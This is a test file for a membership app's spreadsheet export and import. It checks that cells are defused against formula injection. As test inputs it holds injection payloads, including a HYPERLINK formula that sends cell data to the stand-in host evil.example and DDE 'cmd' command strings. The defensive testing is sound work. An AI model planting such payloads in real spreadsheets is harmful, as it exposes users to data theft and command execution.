// Formula-safe cells: the rule on its own, then a member named "=HYPERLINK(…)" through the member export and
// a hostile cell through the rejected-rows file of an import.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openWorkbook, simpleWorkbook } from '../modules/member-import/test-sheets.ts';
import { upload } from '../modules/member-import/test-world.ts';
import { createTestContext, createUser, signIn, type TestContext } from '../test/context.ts';
import { type HanoiTree, insertHanoiTree } from '../test/units.ts';
import { safeCell } from './xlsx.ts';

describe('safeCell', () => {
  it.each<[unknown, unknown]>([
    ['=HYPERLINK("http://evil.example","Bấm")', `'=HYPERLINK("http://evil.example","Bấm")`],
    ['=1+1', "'=1+1"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
    ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    // phone numbers, figures and dashes compute nothing: kept as they are
    ['+84 912 345 678', '+84 912 345 678'],
    ['+84912345678', '+84912345678'],
    ['-12,5', '-12,5'],
    ['-', '-'],
    ['Nguyễn Văn An', 'Nguyễn Văn An'],
    ['a=b', 'a=b'],
    ['', ''],
    [42, 42],
    [-3, -3],
    [null, null],
  ])('%j → %j', (value, expected) => expect(safeCell(value)).toEqual(expected));
});

describe('exported sheets', () => {
  let ctx: TestContext;
  let tree: HanoiTree;
  let session: { cookie: string };
  const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Xem hồ sơ")';

  beforeAll(async () => {
    ctx = await createTestContext();
    tree = await insertHanoiTree(ctx);
    await createUser(ctx, 'longbien', 'unit_admin', tree.longBien);
    session = await signIn(ctx, 'longbien');
  });
  afterAll(() => ctx.close());

  it('write a member named "=HYPERLINK(…)" as text behind an apostrophe, phone numbers as they are', async () => {
    const admitted = await ctx.app.inject({
      method: 'POST',
      url: '/api/members',
      headers: session,
      payload: {
        unitId: tree.grassrootsA,
        admittedOn: '2024-03-01',
        fullName: HOSTILE,
        gender: 'female',
        phone: '+84 912 345 678',
        position: '@SUM(1+1)',
        employer: '-1+cmd|" /C calc"!A0',
      },
    });
    expect(admitted.statusCode, admitted.body).toBe(201);
    const response = await ctx.app.inject({
      method: 'GET',
      url: `/api/org-units/${tree.grassrootsA}/members/export.xlsx`,
      headers: session,
    });
    expect(response.statusCode).toBe(200);
    const sheet = (await openWorkbook(response.rawPayload)).worksheets[0]!;
    const row = sheet.getRow(10);
    expect(row.getCell(2).value).toBe(`'${HOSTILE}`);
    expect(row.getCell(7).value).toBe("'@SUM(1+1)");
    expect(row.getCell(8).value).toBe(`'-1+cmd|" /C calc"!A0`);
    expect(String(row.getCell(9).value)).toMatch(/^(\+84|0)\d/u);
    // Nothing in the file is a formula.
    for (const worksheet of [sheet]) {
      worksheet.eachRow((each) =>
        each.eachCell((cell) => expect(cell.formula, cell.address).toBeUndefined()),
      );
    }
  });

  it('write the rejected rows of an import back without a live formula', async () => {
    const file = await simpleWorkbook([
      ['Họ và tên', 'Năm sinh', 'Giới tính', 'Số CCCD'],
      [HOSTILE, 1990, 'Nam', '001090000701'],
      ['@cmd', 1991, 'không rõ', '001091000702'],
    ]);
    const imported = await upload(ctx, session, tree.grassrootsA, file, { dryRun: false });
    expect(imported.statusCode, imported.body).toBe(200);
    const { jobId, rejected } = imported.json() as { jobId: number; rejected: number };
    // The importer takes neither name for a person's: both rows come back to be fixed.
    expect(rejected).toBe(2);
    const download = await ctx.app.inject({
      method: 'GET',
      url: `/api/import-jobs/${jobId}/rejected.xlsx`,
      headers: session,
    });
    expect(download.statusCode).toBe(200);
    const sheet = (await openWorkbook(download.rawPayload)).worksheets[0]!;
    expect(sheet.getRow(2).getCell(1).value).toBe(`'${HOSTILE}`);
    expect(sheet.getRow(3).getCell(1).value).toBe("'@cmd");
    expect(sheet.getRow(1).getCell(1).value).toBe('Họ và tên');
  });
});
